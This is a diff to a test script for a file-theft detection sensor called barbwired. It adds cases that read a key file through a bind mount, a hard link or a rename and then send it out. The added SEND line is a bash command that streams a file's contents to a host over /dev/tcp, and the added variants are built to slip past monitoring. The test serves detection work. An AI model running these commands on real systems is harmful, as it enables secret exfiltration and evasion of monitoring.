@@ -1,7 +1,7 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: GPL-2.0-or-later
 """The minimum that must work on a kernel: barbwired is armed with the requested sensor, and raises the alert of one
-theft.
+theft, and of thefts of the same file by its other names.
 
 usage: test-theft.py [--lockdown=MODE] SENSOR
 --lockdown    set at run time; it cannot be lowered again
@@ -16,10 +16,18 @@ sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../
 import harness
 import tap
 import varlink
-from net import Net
+from harness import touches
+from net import HOST_V4, Net
 from tap import require, require_equal
 
 LOCKDOWN = "/sys/kernel/security/lockdown"
+# $1: the key, $2: the sink, $3: what does not exist yet. Each reads it by another name, that no class has.
+SEND = 'exec 3<>/dev/tcp/$2/443 && exec cat "$name" >&3'
+NAMES = {
+    "a bind mount": 'name=$3/${1##*/}; mkdir "$3" && mount --bind "${1%/*}" "$3" && ' + SEND,
+    "a hard link": 'name=$3; ln "$1" "$3" && ' + SEND,
+    "its name after a rename": 'name=$3; cat "$1" >/dev/null && mv "$1" "$3" && ' + SEND,
+}
 
 
 def locked_down(mode):
@@ -49,6 +57,17 @@ def status_tells(sensor, path):
                   f"names: {not_monitored}")
 
 
+def renamed(bw, net, home, script):
+    key, content = home.key()
+    other = os.path.join(home.root, b"other-" + os.path.basename(key))
+    result = net.run(["unshare", "--mount", "/bin/bash", "-c", script, "bash", key, HOST_V4, other])
+    require_equal(result.returncode, 0, result.stderr)
+    net.sink.wait_arrived(content)
+    names = other, os.path.join(other, os.path.basename(key))
+    bw.wait_alert(lambda a: a["destination"]["address"] == HOST_V4 and any(touches(a, name) for name in names),
+                  "an alert with the other name")
+
+
 def ends(bw):
     bw.stop()
     bw.require_no_loss(harness.preemption_losses())
@@ -66,6 +85,8 @@ def main():
         t.case("status tells what this kernel has not", status_tells, sensor,
                f"{os.fsdecode(home.root)}/socket")
         t.case("a theft raises an alert", bw.prove_delivered, net, home)
+        for name, script in NAMES.items():
+            t.case(f"the file by {name}", renamed, bw, net, home, script)
         t.case("exit 0, no loss", ends, bw)
     t.done()
 
